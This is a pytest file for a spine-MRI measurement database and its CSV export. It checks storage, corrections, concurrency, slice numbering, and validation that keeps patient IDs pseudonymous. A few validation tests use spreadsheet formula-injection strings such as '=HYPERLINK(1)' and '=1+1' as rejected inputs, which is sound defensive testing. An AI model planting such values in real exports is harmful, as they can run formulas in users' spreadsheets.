"""Tests of vbq.measurements (the measurement database) and vbq.export (spreadsheet-safe cells).

The merge is checked against the spreadsheet path (`vbq.prepare_cohort` on the demo cohort as
shipped),
the VBQ of a reading against `vbq.compute_vbq` and a hand median, and the reliability against
`vbq.stats.icc` / `bland_altman` called on the same numbers by hand.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import multiprocessing
import os
import sqlite3
import statistics
import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import vbq
from vbq.errors import InputError
from vbq.export import neutralise_formula, neutralise_frame, safe_csv
from vbq.measurements import (
    HISTORY_COLUMNS,
    KEY_COLUMNS,
    MEASUREMENT_COLUMNS,
    SCHEMA_VERSION,
    MeasurementStore,
    ROIMeasurement,
    inter_observer_vbq,
    intra_observer_vbq,
    merge_into_cohort,
    open_store,
    read_measurements,
    reading_from_rois,
    reading_vbq,
    reliability,
    series_provenance,
    to_cohort_si,
    validate_measurements,
    vbq_wide,
    with_slice_numbers,
)

SI_COLS = ["si_l1", "si_l2", "si_l3", "si_l4"]
LEVELS = ("L1", "L2", "L3", "L4")


def reading(pid: str, observer: str = "AB", session: int = 1, sis=(300.0, 320.0, 310.0, 330.0),
            csf: float = 110.0, *, collapsed=(), csf_level=None, **extra) -> list[ROIMeasurement]:
    """One patient's five ROIs."""
    rois = [ROIMeasurement(pid, observer, session, lv, float(si), excluded=lv in collapsed,
                           **extra) for lv, si in zip(LEVELS, sis, strict=True)]
    rois.append(ROIMeasurement(pid, observer, session, "CSF", float(csf), csf_level=csf_level,
                               **extra))
    return rois


@pytest.fixture
def store(tmp_path):
    s = MeasurementStore(tmp_path / "m.sqlite")
    yield s
    s.close()


FULL = dict(slice_index=7, centre_row_px=120.25, centre_col_px=88.0, centre_row_mm=84.175,
            centre_col_mm=61.6, radius_mm=6.0, si_median=301.5, si_sd=22.125, pixel_count=231,
            series_fingerprint="3f" * 32, field_strength_t=1.5, tr_ms=520.0, te_ms=12.0)


# --------------------------------------------------------------------------------------------
# schema, save, load, reopen


def test_schema_created_on_first_use_with_version(tmp_path):
    path = tmp_path / "sub" / "m.sqlite"
    path.parent.mkdir()
    with open_store(path) as s:
        assert s.schema_version == SCHEMA_VERSION
        assert s.load().columns.tolist() == list(MEASUREMENT_COLUMNS)
        assert s.history().columns.tolist() == list(HISTORY_COLUMNS)
    con = sqlite3.connect(path)
    tables = {r[0] for r in con.execute("select name from sqlite_master where type='table'")}
    assert {"vbq_meta", "vbq_roi_measurements", "vbq_roi_history"} <= tables
    assert con.execute("pragma journal_mode").fetchone()[0] == "wal"
    pk = [r[1] for r in sorted(con.execute("pragma table_info(vbq_roi_measurements)"),
                               key=lambda r: r[5]) if r[5]]
    assert pk == list(KEY_COLUMNS)
    con.close()


def test_newer_schema_is_refused(tmp_path):
    path = tmp_path / "m.sqlite"
    MeasurementStore(path).close()
    con = sqlite3.connect(path)
    con.execute("update vbq_meta set value = '99' where key = 'schema_version'")
    con.commit()
    con.close()
    with pytest.raises(InputError, match="newer than this software"):
        MeasurementStore(path)


def test_save_load_every_field_and_survive_reopen(tmp_path):
    path = tmp_path / "m.sqlite"
    rois = reading("VBQ-001", csf_level="L2", **FULL)
    with MeasurementStore(f"sqlite:///{path}") as s:
        res = s.save(rois)
        assert (res.inserted, res.corrected, res.unchanged) == (5, 0, 0)
        first = s.load()
    # a new store on the same file, as after an app restart
    with MeasurementStore(path) as s:
        again = s.load()
    pd.testing.assert_frame_equal(first, again)
    assert again["level"].tolist() == ["L1", "L2", "L3", "L4", "CSF"]
    assert again["si_mean"].tolist() == [300.0, 320.0, 310.0, 330.0, 110.0]
    assert again["csf_level"].tolist() == [None, None, None, None, "L2"]
    row = again.iloc[0]
    for name, value in FULL.items():
        assert row[name] == value, name
    assert row["software_version"] == vbq.__version__
    assert str(again["measured_at"].dtype) == "datetime64[us, UTC]"
    assert (pd.Timestamp.now(tz="UTC") - row["measured_at"]) < pd.Timedelta(minutes=5)


PROVENANCE = dict(series_flags="not_validated_sequence;lossy_compression", manufacturer="ACME",
                  model_name="Magnet 1.5", scanning_sequence="SE\\IR", sequence_variant="SK",
                  ti_ms=860.0, pixel_bandwidth_hz=130.0, slice_thickness_mm=4.0,
                  roi_source="manual", blinded=True)


def test_each_reading_keeps_its_provenance_in_the_database_and_the_csv(store, tmp_path):
    # issues 16 and 19: a T1 FLAIR reading (VBQ 4.8-4.9) entered the tables without its flags
    store.save(reading("VBQ-001", **FULL, **PROVENANCE) + reading("VBQ-002"))
    table = store.load().set_index("patient_id")
    for name, value in PROVENANCE.items():
        assert set(table.loc["VBQ-001", name]) == {value}, name
    plain = table.loc["VBQ-002"]
    assert plain["series_flags"].isna().all() and plain["ti_ms"].isna().all()
    assert not plain["blinded"].any()
    text = store.export_csv()
    header = text.splitlines()[0].split(",")
    assert set(PROVENANCE) <= set(header)
    assert "not_validated_sequence;lossy_compression" in text and "Magnet 1.5" in text
    other = MeasurementStore(tmp_path / "other.sqlite")
    assert other.import_csv(text).inserted == 10
    pd.testing.assert_frame_equal(other.load().drop(columns="measured_at"),
                                  store.load().drop(columns="measured_at"))
    other.close()


def test_provenance_fields_are_validated_by_column():
    base = dict(patient_id="VBQ-001", observer="AB", session=1, level="L1", si_mean=300.0)
    bad = {"series_flags": "Lossy Compression", "roi_source": "automatic",
           "manufacturer": "ACME\x00", "ti_ms": -1.0, "pixel_bandwidth_hz": 0.0,
           "model_name": "x" * 65, "blinded": "perhaps"}
    rows = [{**base, "patient_id": f"VBQ-{i:03d}", col: value}
            for i, (col, value) in enumerate(bad.items())]
    _, report = validate_measurements(pd.DataFrame(rows))
    assert sorted((p.row, p.column) for p in report.errors) == sorted(
        (i + 1, col) for i, col in enumerate(bad))
    table, report = validate_measurements([{**base, "series_flags": " lossy_compression ; "
                                            "not_sagittal;lossy_compression", "roi_source":
                                            "Suggested"}])
    assert report.ok
    assert table.loc[0, "series_flags"] == "lossy_compression;not_sagittal"
    assert table.loc[0, "roi_source"] == "suggested"


def test_a_reading_records_the_series_it_was_measured_on_and_nothing_identifying():
    from vbq import imaging, phantom

    datasets, truth = phantom.make_series(seed=0, n_slices=5)
    for ds in datasets:  # a T1 FLAIR: inversion recovery, TI 860 ms
        ds.ScanningSequence = ["SE", "IR"]
        ds.SequenceVariant = ["SK", "SP"]
        ds.InversionTime = 860
        ds.Manufacturer = "ACME"
        ds.ManufacturerModelName = "Magnet 1.5"
        ds.PixelBandwidth = 130
        ds.StationName = "STATION-SECRET"
        ds.DeviceSerialNumber = "SERIAL-SECRET"
        ds.InstitutionName = "INSTITUTION-SECRET"
    series = imaging.load_series(phantom.series_bytes(datasets))
    assert series.flags  # the page warns of it ...
    stats = {lv: imaging.roi_stats(series.pixels[truth.mid_slice], series.spacing_mm,
                                   truth.centres[lv], truth.roi_radius_mm[lv])
             for lv in ("L1", "L2", "L3", "L4", "CSF")}
    rows = reading_from_rois(stats, patient_id="VBQ-001", observer="AB", session=1,
                             series=series, roi_source="manual")
    codes = ";".join(f.code for f in series.flags)
    for r in rows:  # ... and the reading keeps it
        assert r.series_flags == codes and "not_validated_sequence" in codes
        assert (r.ti_ms, r.scanning_sequence, r.sequence_variant) == (860.0, "SE\\IR", "SK\\SP")
        assert (r.field_strength_t, r.tr_ms, r.te_ms) == (
            series.field_strength_t, series.repetition_time_ms, series.echo_time_ms)
        assert r.slice_thickness_mm == series.slice_thickness_mm and r.roi_source == "manual"
        for name in ("manufacturer", "model_name", "pixel_bandwidth_hz"):  # vbq.imaging's own
            assert getattr(r, name) == getattr(series, name, None)
    store = MeasurementStore("sqlite://")
    store.save(rows)
    text = store.export_csv() + store.load().to_csv()
    assert "SECRET" not in text and codes in text


def test_series_provenance_reads_the_scanner_and_only_the_scanner():
    import types

    from vbq.imaging import Flag

    series = types.SimpleNamespace(
        fingerprint="ab" * 32, flags=(Flag("not_sagittal", "not sagittal"),),
        lossy_compression=True, field_strength_t=3.0, manufacturer=" Siemens ",
        model_name="Skyra", scanning_sequence="SE", sequence_variant="", repetition_time_ms=600.0,
        echo_time_ms=10.0, inversion_time_ms=None, pixel_bandwidth_hz=200.0,
        slice_thickness_mm=3.0, station_name="STATION", device_serial_number="SERIAL",
        institution_name="INSTITUTION")
    got = series_provenance(series)
    assert got == dict(series_fingerprint="ab" * 32,
                       series_flags="not_sagittal;lossy_compression", field_strength_t=3.0,
                       manufacturer="Siemens", model_name="Skyra", scanning_sequence="SE",
                       sequence_variant=None, tr_ms=600.0, te_ms=10.0, ti_ms=None,
                       pixel_bandwidth_hz=200.0, slice_thickness_mm=3.0)
    assert set(got) <= set(MEASUREMENT_COLUMNS)


def test_a_version_1_database_is_upgraded_and_keeps_its_readings(tmp_path):
    # tests/data/measurements/v1.sqlite was written by the code of commit 7ddef1d (make_v1.py)
    import shutil

    path = tmp_path / "old.sqlite"
    shutil.copy(Path(__file__).parent / "data" / "measurements" / "v1.sqlite", path)
    con = sqlite3.connect(path)
    assert con.execute("select value from vbq_meta where key='schema_version'").fetchone() == (
        "1",)
    before = con.execute("select patient_id, observer, session, level, si_mean, csf_level, "
                         "slice_index, tr_ms from vbq_roi_measurements order by level").fetchall()
    history_before = con.execute("select change, reason, patient_id, level, si_mean from "
                                 "vbq_roi_history order by history_id").fetchall()
    con.close()
    assert len(before) == 5 and len(history_before) == 2
    with MeasurementStore(path) as store:
        assert store.schema_version == SCHEMA_VERSION == 3
        table = store.load()
        history = store.history()
        store.save(reading("VBQ-003", **PROVENANCE))  # the new columns take values
    assert table.columns.tolist() == list(MEASUREMENT_COLUMNS)
    got = sorted(table[["patient_id", "observer", "session", "level", "si_mean", "csf_level",
                        "slice_index", "tr_ms"]].itertuples(index=False, name=None))
    assert [tuple(None if pd.isna(v) else v for v in row) for row in got] == sorted(before)
    assert table.loc[table["level"] == "L2", "si_mean"].item() == 325.0  # the correction
    assert table["series_flags"].isna().all() and table["roi_source"].isna().all()
    assert history[["change", "reason", "patient_id", "level", "si_mean"]].apply(
        tuple, axis=1).tolist() == history_before
    with MeasurementStore(path) as again:  # opening it again changes nothing
        assert again.schema_version == 3
        assert len(again.load()) == 10
        assert set(again.load(patient_id="VBQ-003")["manufacturer"]) == {"ACME"}


def test_store_accepts_an_engine_and_a_connection_like_object(tmp_path):
    import sqlalchemy as sa

    engine = sa.create_engine(f"sqlite:///{tmp_path / 'm.sqlite'}")

    class Connection:  # what st.connection("measurements", type="sql") exposes
        def __init__(self, engine):
            self.engine = engine

    MeasurementStore(engine).save(reading("VBQ-001"))
    s = MeasurementStore(Connection(engine))
    assert len(s.load()) == 5
    s.close()  # not ours: the engine still works
    with engine.connect() as conn:
        assert conn.execute(sa.text("select count(*) from vbq_roi_measurements")).scalar() == 5


def test_an_in_memory_store_is_the_same_database_in_every_thread():
    s = MeasurementStore("sqlite://")
    t = threading.Thread(target=lambda: s.save(reading("VBQ-001")))
    t.start()
    t.join()
    assert len(s.load()) == 5


def test_bad_binds_are_named_and_a_password_never_shown(tmp_path):
    assert MeasurementStore("sqlite://").url == "sqlite://"
    with pytest.raises(InputError, match="expected an SQLAlchemy URL"):
        MeasurementStore(42)
    # no driver installed, or no server listening: either way a message, without the password
    with pytest.raises(InputError) as err:
        MeasurementStore("postgresql+psycopg://vbq:s3cret@127.0.0.1:9/vbq")
    assert "s3cret" not in str(err.value)
    (tmp_path / "dir.sqlite").mkdir()
    with pytest.raises(InputError, match="cannot open it"):
        MeasurementStore(tmp_path / "dir.sqlite")


def test_the_default_database_lives_in_the_user_data_folder_never_in_the_package(
        tmp_path, monkeypatch):
    import vbq.measurements as m

    package = Path(vbq.__file__).resolve().parent
    # tests/conftest.py points VBQ_DATA_DIR at a scratch folder for every test
    assert Path(os.environ["VBQ_DATA_DIR"]) == m.DEFAULT_PATH.parent
    assert package not in m.DEFAULT_PATH.parents and package.parent not in m.DEFAULT_PATH.parents
    # the variable is read when the name is used, not when vbq was imported
    monkeypatch.setenv("VBQ_DATA_DIR", str(tmp_path / "lab"))
    assert m.DEFAULT_PATH == tmp_path / "lab" / "measurements.sqlite"
    assert m.default_url() == f"sqlite:///{tmp_path / 'lab' / 'measurements.sqlite'}"
    with MeasurementStore() as store:  # creates the folder and the file there
        store.save(reading("VBQ-001"))
    assert (tmp_path / "lab" / "measurements.sqlite").exists()
    # without the variable: the operating system's per-user folder (platformdirs)
    monkeypatch.delenv("VBQ_DATA_DIR")
    import platformdirs

    assert m.DEFAULT_PATH == Path(platformdirs.user_data_dir("vbq-explorer", appauthor=False)
                                  ) / "measurements.sqlite"
    with pytest.raises(AttributeError):
        m.NO_SUCH_NAME  # noqa: B018


def test_load_filters_and_readings_summary(store):
    store.save(reading("VBQ-001") + reading("VBQ-001", session=2) + reading("VBQ-002", "CD"))
    assert len(store.load(patient_id="VBQ-001")) == 10
    assert len(store.load(observer=["CD"])) == 5
    assert len(store.load(session=2)) == 5
    r = store.readings()
    assert r[["patient_id", "observer", "session", "n_rois"]].values.tolist() == [
        ["VBQ-001", "AB", 1, 5], ["VBQ-001", "AB", 2, 5], ["VBQ-002", "CD", 1, 5]]


# --------------------------------------------------------------------------------------------
# atomicity, corrections, deletion


def test_a_reading_with_one_bad_roi_saves_nothing(store):
    rois = reading("VBQ-001")
    rois[2] = dataclasses.replace(rois[2], si_mean=-5.0)
    with pytest.raises(InputError) as err:
        store.save(rois)
    assert [(p.row, p.column) for p in err.value.problems] == [(3, "si_mean")]
    assert store.load().empty


def test_a_failing_transaction_leaves_nothing_behind(store, monkeypatch):
    # the database refuses the insert midway: the correction and the history row roll back too
    store.save(reading("VBQ-001"))
    import vbq.measurements._store as m

    real_insert = m.sa.insert

    def failing_insert(table):
        if table is m._rois:
            raise RuntimeError("disk full")
        return real_insert(table)

    monkeypatch.setattr(m.sa, "insert", failing_insert)
    with pytest.raises(RuntimeError):
        store.save(reading("VBQ-001", sis=(1.0, 2.0, 3.0, 4.0)) + reading("VBQ-002"))
    monkeypatch.undo()
    assert store.load()["si_mean"].tolist() == [300.0, 320.0, 310.0, 330.0, 110.0]
    assert store.history().empty


def test_a_correction_keeps_the_old_value_with_when_and_why(store):
    store.save(reading("VBQ-001"))
    before = store.load()
    res = store.save(reading("VBQ-001", sis=(300.0, 325.0, 310.0, 330.0)), reason="ROI moved")
    assert (res.inserted, res.corrected, res.unchanged) == (0, 1, 4)
    now = store.load()
    assert now.loc[now["level"] == "L2", "si_mean"].item() == 325.0
    hist = store.history()
    assert len(hist) == 1
    h = hist.iloc[0]
    assert (h["change"], h["reason"], h["level"], h["si_mean"]) == (
        "corrected", "ROI moved", "L2", 320.0)
    old = before[before["level"] == "L2"].iloc[0]
    assert h["measured_at"] == old["measured_at"]
    assert h["changed_at"] >= h["measured_at"]
    # a correction without a reason is still recorded
    store.save(reading("VBQ-001", sis=(300.0, 326.0, 310.0, 330.0)))
    assert store.history()["reason"].tolist() == ["ROI moved", "re-saved"]


def test_an_identical_resave_changes_nothing(store):
    store.save(reading("VBQ-001"))
    first = store.load()
    res = store.save(reading("VBQ-001"))
    assert (res.inserted, res.corrected, res.unchanged) == (0, 0, 5)
    pd.testing.assert_frame_equal(store.load(), first)  # timestamps kept
    assert store.history().empty


def test_delete_only_on_purpose_and_recorded(store):
    store.save(reading("VBQ-001") + reading("VBQ-001", session=2))
    with pytest.raises(InputError, match="reason"):
        store.delete("VBQ-001", observer="AB", session=1, reason=" ")
    with pytest.raises(TypeError):
        store.delete("VBQ-001")  # observer, session and reason are required
    assert store.delete("VBQ-001", observer="AB", session=2, level="CSF", reason="wrong slice") == 1
    assert store.delete("VBQ-001", observer="AB", session=1, reason="duplicate patient") == 5
    assert store.delete("VBQ-001", observer="AB", session=1, reason="again") == 0
    assert store.load()["level"].tolist() == ["L1", "L2", "L3", "L4"]
    hist = store.history()
    assert hist["change"].tolist() == ["deleted"] * 6
    assert hist["reason"].tolist() == ["wrong slice"] + ["duplicate patient"] * 5
    assert hist["si_mean"].tolist()[:2] == [110.0, 300.0]


# --------------------------------------------------------------------------------------------
# validation


def test_patient_ids_must_be_pseudonymous_codes(store):
    ok = ["VBQ-001", "p17", "A.B_3"]
    bad = ["Smith, John", "John Smith", "", "   ", "1.2.840.113619.2.55", "1956-03-12",
           "12.03.1956", "=HYPERLINK(1)", "-001", "x" * 65]
    for pid in ok:
        assert validate_measurements(reading(pid))[1].ok, pid
    for pid in bad:
        table, report = validate_measurements(reading(pid))
        assert not report.ok, pid
        assert {p.column for p in report.errors} == {"patient_id"}, pid
    # surrounding spaces are stripped
    table, report = validate_measurements(reading("  VBQ-002 "))
    assert report.ok and set(table["patient_id"]) == {"VBQ-002"}


# issue 18: a date of birth in any shape it is written in is refused as a study ID, with the
# reason; eight-digit codes that are not a date of 1900-2099 stay valid
DATE_SHAPES = ["19800115", "15011980", "01151980", "1980-01-15", "15.01.1980", "15/01/1980",
               "1980_01_15", "15Jan1980", "15-JAN-1980", "Jan15-1980", "1980-jan-15",
               "15january1980"]
NOT_DATES = ["12345678", "19801315", "20240001", "00012345", "150180", "S19800115", "VBQ-1980",
             "JAN1", "MAY01"]


@pytest.mark.parametrize("pid", DATE_SHAPES)
def test_a_date_in_any_shape_is_refused_as_a_study_id(store, pid):
    with pytest.raises(InputError) as err:
        store.save(reading(pid))
    text = str(err.value)
    assert text.startswith(f'The study patient ID "{pid}" is refused: it looks like a date')
    assert "never a name, a date" in text
    assert store.load().empty
    with pytest.raises(InputError, match="observer code .* looks like a date"):
        store.save(reading("VBQ-001", observer=pid))


def test_codes_that_are_not_dates_stay_valid():
    for pid in NOT_DATES:
        assert validate_measurements(reading(pid))[1].ok, pid
        assert validate_measurements(reading("VBQ-001", observer=pid))[1].ok, pid


def test_a_bad_key_is_one_message_naming_the_value_and_the_rule(store):
    with pytest.raises(InputError) as err:
        store.save(reading("1958-03-02"))
    text = str(err.value)
    assert text.count("1958-03-02") == 1 and "\n" not in text and "row" not in text
    assert text.startswith('The study patient ID "1958-03-02" is refused: it looks like a date')
    assert "letters, digits and . _ -" in text
    assert len(err.value.problems) == 5  # every problem is still there, by row and column
    with pytest.raises(InputError) as err:
        store.save(reading("John Smith", observer="A B"))
    lines = str(err.value).splitlines()
    assert lines[0].startswith('- The study patient ID "John Smith" is refused')
    assert lines[1].startswith('- The observer code "A B" is refused') and len(lines) == 3
    assert store.load().empty


def test_every_field_is_validated_by_row_and_column():
    rows = [dict(patient_id=f"VBQ-{i:03d}", observer="AB", session=1, level="L1", si_mean=300.0)
            for i in range(12)]
    bad = {1: ("session", 0), 2: ("level", "L5"), 3: ("si_mean", "abc"), 4: ("radius_mm", 0.0),
           5: ("pixel_count", 2.5), 6: ("series_fingerprint", "1.2.840.10008.1.2"),
           7: ("tr_ms", float("inf")), 8: ("excluded", "maybe"), 9: ("csf_level", "L3"),
           10: ("measured_at", 5), 11: ("software_version", "=1+1")}
    for i, (col, value) in bad.items():
        rows[i] = {**rows[i], col: value}
    _, report = validate_measurements(pd.DataFrame(rows))
    got = sorted((p.row, p.column) for p in report.errors)
    assert got == sorted((i + 1, col) for i, (col, _) in bad.items())
    for text in ("now", "1/2/2026", "yesterday"):
        _, rep = validate_measurements([{**rows[0], "measured_at": text}])
        assert [p.column for p in rep.errors] == ["measured_at"], text
    for text in ("2026-01-31T14:05:00Z", "2026-01-31 14:05:00+01:00", "2026-01-31"):
        table, rep = validate_measurements([{**rows[0], "measured_at": text}])
        assert rep.ok, text
    assert str(table.loc[0, "measured_at"]) == "2026-01-31 00:00:00+00:00"
    fp = next(p for p in report.errors if p.column == "series_fingerprint")
    assert "never the Series Instance UID" in fp.message


def test_cross_row_rules():
    rois = reading("VBQ-001", csf=0.0)
    rois[0] = dataclasses.replace(rois[0], csf_level="L3")
    rois.append(dataclasses.replace(rois[1], si_mean=1.0))  # the same key twice
    rois.append(ROIMeasurement("VBQ-002", "AB", 1, "CSF", 100.0, excluded=True))
    _, report = validate_measurements(rois)
    msgs = {(p.row, p.column): p.message for p in report.errors}
    assert "CSF row only" in msgs[(1, "csf_level")]
    assert "above 0" in msgs[(5, "si_mean")]
    assert "same patient_id, observer, session and level as row 2" in msgs[(6, "level")]
    assert "not the CSF" in msgs[(7, "excluded")]
    # a CSF row with no level recorded is at L3, as in the cohort file
    table, report = validate_measurements(reading("VBQ-003"))
    assert report.ok and table.loc[4, "csf_level"] == "L3"


# --------------------------------------------------------------------------------------------
# concurrent writers


def _writer(path: str, worker: int, n_patients: int, n_shared: int) -> None:
    s = MeasurementStore(path)
    for k in range(max(n_patients, n_shared)):
        if k < n_patients:
            s.save(reading(f"W{worker}-P{k}", sis=(300.0 + worker, 320.0 + k, 310.0, 330.0)))
        if k < n_shared:  # everyone corrects the same ROI, each time to a different value
            s.save([ROIMeasurement("SHARED", "AB", 1, "L1", 1000.0 * worker + k)],
                   reason=f"worker {worker} save {k}")
    s.close()


def _check_nothing_lost(path, workers: int, n_patients: int, n_shared: int) -> None:
    s = MeasurementStore(path)
    table = s.load()
    assert len(table) == workers * n_patients * 5 + 1
    for w in range(workers):
        for k in range(n_patients):
            got = table.loc[table["patient_id"] == f"W{w}-P{k}", "si_mean"].tolist()
            assert got == [300.0 + w, 320.0 + k, 310.0, 330.0, 110.0]
    # every value ever saved to the shared ROI is either current or in the history, once
    saved = {1000.0 * w + k for w in range(workers) for k in range(n_shared)}
    current = table.loc[table["patient_id"] == "SHARED", "si_mean"].tolist()
    past = s.history(patient_id="SHARED")["si_mean"].tolist()
    assert len(past) == len(saved) - 1
    assert sorted(current + past) == sorted(saved)
    s.close()


def test_concurrent_threads_lose_nothing(tmp_path):
    path = str(tmp_path / "m.sqlite")
    MeasurementStore(path).close()
    workers, n_patients, n_shared = 6, 8, 5
    errors: list[BaseException] = []

    def run(w):
        try:
            _writer(path, w, n_patients, n_shared)
        except BaseException as exc:  # surfaced below
            errors.append(exc)

    threads = [threading.Thread(target=run, args=(w,)) for w in range(workers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors, errors
    _check_nothing_lost(path, workers, n_patients, n_shared)


def test_concurrent_processes_lose_nothing(tmp_path):
    path = str(tmp_path / "m.sqlite")  # no store opened first: the schema is created concurrently
    workers, n_patients, n_shared = 4, 6, 5
    # fork where the platform has it (fast; each child opens its own connections), else spawn
    ctx = multiprocessing.get_context(
        "fork" if "fork" in multiprocessing.get_all_start_methods() else "spawn")
    procs = [ctx.Process(target=_writer, args=(path, w, n_patients, n_shared))
             for w in range(workers)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(timeout=120)
    assert [p.exitcode for p in procs] == [0] * workers
    _check_nothing_lost(path, workers, n_patients, n_shared)


# --------------------------------------------------------------------------------------------
# CSV


def test_csv_round_trip_is_exact(store, tmp_path):
    store.save(reading("VBQ-001", csf_level="L4", collapsed=("L2",), **FULL))
    store.save(reading("VBQ-002", "CD", 2, sis=(0.1 + 0.2, 1 / 3, 1e-7, 123456.789)))
    store.save(reading("VBQ-001", sis=(301.0, 320.0, 310.0, 330.0)), reason="moved")
    text = store.export_csv()
    target = tmp_path / "export.csv"
    store.export_csv(target)
    assert target.read_text() == text
    other = MeasurementStore("sqlite://")
    res = other.import_csv(target)
    assert (res.inserted, res.corrected, res.unchanged) == (10, 0, 0)
    pd.testing.assert_frame_equal(other.load(), store.load())
    assert other.export_csv() == text
    # importing the same file again changes nothing
    res = other.import_csv(text.encode())
    assert (res.inserted, res.corrected, res.unchanged) == (0, 0, 10)
    assert other.history().empty


_code = st.builds(lambda a, b: a + b, st.sampled_from("AbZ"),
                  st.text("aZ09._-", max_size=12))
_opt = lambda lo, hi: st.none() | st.floats(lo, hi, allow_nan=False)  # noqa: E731


@st.composite
def _rois(draw):
    keys = draw(st.lists(st.tuples(_code, _code, st.integers(1, 5), st.sampled_from(
        ["L1", "L2", "L3", "L4", "CSF"])), min_size=1, max_size=8, unique=True))
    out = []
    for pid, obs, ses, lv in keys:
        out.append(ROIMeasurement(
            pid, obs, ses, lv, draw(st.floats(1e-3, 1e6)),
            csf_level=draw(st.sampled_from(["T12", "L2", "L3", "L5"])) if lv == "CSF" else None,
            slice_index=draw(st.none() | st.integers(0, 500)),
            centre_row_px=draw(_opt(0, 1024)), centre_col_mm=draw(_opt(-10, 400)),
            radius_mm=draw(st.none() | st.floats(0.01, 30)), si_median=draw(_opt(-1e6, 1e6)),
            si_sd=draw(_opt(0, 1e6)), pixel_count=draw(st.none() | st.integers(1, 10**6)),
            excluded=lv != "CSF" and draw(st.booleans()),
            series_fingerprint=draw(st.none() | st.binary(min_size=8, max_size=32).map(
                bytes.hex)),
            te_ms=draw(st.none() | st.floats(0.1, 100)),
            measured_at=draw(st.datetimes(dt.datetime(2000, 1, 1), dt.datetime(2100, 1, 1),
                                          timezones=st.just(dt.UTC))),
        ))
    return out


@settings(max_examples=25, deadline=None)
@given(_rois())
def test_csv_round_trip_property(rois):
    a, b = MeasurementStore("sqlite://"), MeasurementStore("sqlite://")
    a.save(rois)
    text = a.export_csv()
    b.import_csv(text)
    pd.testing.assert_frame_equal(b.load(), a.load())
    assert b.export_csv() == text


def test_csv_import_reports_problems_by_row_and_column(store):
    store.save(reading("VBQ-001"))
    lines = store.export_csv().splitlines()
    header = lines[0].split(",")
    col = {name: header.index(name) for name in header}

    def edit(line, name, value):
        cells = line.split(",")
        cells[col[name]] = value
        return ",".join(cells)

    lines[2] = edit(lines[2], "si_mean", "3OO")               # row 3: L2
    lines[4] = edit(lines[4], "patient_id", "Smith John")     # row 5: L4
    lines[5] = edit(lines[5], "csf_level", "L9")              # row 6: CSF
    text = "\n".join(lines[:3] + [""] + lines[3:]) + "\n"     # an empty row 4
    fresh = MeasurementStore("sqlite://")
    with pytest.raises(InputError) as err:
        fresh.import_csv(text.encode(), reason="x")
    got = [(p.row, p.column) for p in err.value.problems]
    assert got == [(3, "si_mean"), (6, "patient_id"), (7, "csf_level")]
    assert fresh.load().empty  # nothing saved
    _, report = read_measurements(text)
    assert [(p.severity, p.row) for p in report.warnings] == [("warning", 4)]
    assert sorted(report.to_frame()["row"]) == [3, 4, 6, 7]


# Slices are numbered from 1 in every export and on every screen (issue 16), as the MRI page's
# slider and PACS viewers count them; the database keeps slice_index, counted from 0.


def test_the_export_numbers_slices_from_1_as_the_screen_does(store):
    store.save(reading("VBQ-001", **FULL))                        # slice_index 7: shown as 8
    store.save(reading("VBQ-001", **{**FULL, "slice_index": 8}), reason="next slice")
    raw = pd.read_csv(io.StringIO(store.export_csv()), dtype=str)
    assert "slice_index" not in raw.columns
    assert list(raw.columns) == [("slice_number" if c == "slice_index" else c)
                                 for c in MEASUREMENT_COLUMNS]  # in the same place
    assert set(raw["slice_number"]) == {"9"}
    history = pd.read_csv(io.StringIO(store.export_csv(table="history")), dtype=str)
    assert "slice_index" not in history.columns and set(history["slice_number"]) == {"8"}
    assert set(store.load()["slice_index"]) == {8}                 # the database: from 0
    # the same numbers on screen (ui.display.measurement_frame) as in the export
    shown = with_slice_numbers(store.load())
    assert shown["slice_number"].tolist() == [9] * 5 and "slice_index" not in shown.columns
    blank = with_slice_numbers(pd.DataFrame({"slice_index": pd.array([None, 0], "Int64")}))
    assert blank["slice_number"].isna().tolist() == [True, False]
    assert blank["slice_number"].iloc[1] == 1


def test_a_csv_with_slice_number_round_trips(store):
    text = ("patient_id,observer,session,level,si_mean,slice_number\n"
            "A1,AB,1,L1,300,8\nA1,AB,1,CSF,110,8\n")
    table, report = read_measurements(text)
    assert report.ok and table["slice_index"].tolist() == [7, 7]
    store.import_csv(text)
    assert store.load()["slice_index"].tolist() == [7, 7]
    assert pd.read_csv(io.StringIO(store.export_csv()))["slice_number"].tolist() == [8, 8]


def test_an_old_csv_with_slice_index_imports_as_the_same_slice(store, tmp_path):
    store.save(reading("VBQ-001", **FULL))
    new = store.export_csv()
    # the export as it was before slice_number: slice_index, counted from 0, in its place
    old = pd.read_csv(io.StringIO(new), dtype=str, keep_default_na=False)
    old.insert(old.columns.get_loc("slice_number"), "slice_index",
               [str(int(n) - 1) for n in old.pop("slice_number")])
    assert set(old["slice_index"]) == {"7"}
    other = MeasurementStore("sqlite://")
    res = other.import_csv(old.to_csv(index=False).encode())
    assert res.inserted == 5 and other.history().empty
    pd.testing.assert_frame_equal(other.load(), store.load())      # the same slice, 7 from 0
    assert other.export_csv() == new                               # exported as slice 8
    # both columns: they must name the same slice
    both = old.assign(slice_number=[str(int(i) + 1) for i in old["slice_index"]])
    assert read_measurements(both.to_csv(index=False))[1].ok
    both.loc[2, "slice_number"] = "7"
    _, report = read_measurements(both.to_csv(index=False))
    assert [(p.row, p.column, p.value) for p in report.errors] == [(4, "slice_number", "7")]
    assert "counted from 1" in report.errors[0].message
    # slice 0 is not a slice number
    zero = both.assign(slice_number="0").drop(columns="slice_index")
    _, report = read_measurements(zero.to_csv(index=False))
    assert not report.ok and {p.column for p in report.errors} == {"slice_number"}


def test_csv_import_file_level_problems():
    _, report = read_measurements(b"")
    assert not report.ok and "empty" in report.errors[0].message
    _, report = read_measurements(b"Patient_ID,observer,session,level,notes\nA1,AB,1,L1,x\n")
    msgs = [(p.severity, p.column, p.message) for p in report.problems]
    # read as a cohort file is: one warning naming the columns ignored
    assert ("warning", None, "column(s) not recognised and ignored: 'notes' (map them by hand "
            "if they hold a known variable)") in msgs
    assert ("error", None, "missing required column 'si_mean'") in msgs
    # bytes that are not a table: a named error in the report, as for a cohort file
    _, report = read_measurements(b"\xff\xfe\x00a")
    assert not report.ok and str(report.errors[0]).startswith("error: measurements.csv: ")
    # headers are matched case-insensitively, blank optional cells are fine
    table, report = read_measurements("PATIENT_ID,Observer,session,level,si_mean\nA1,AB,1,CSF,99.5\n")
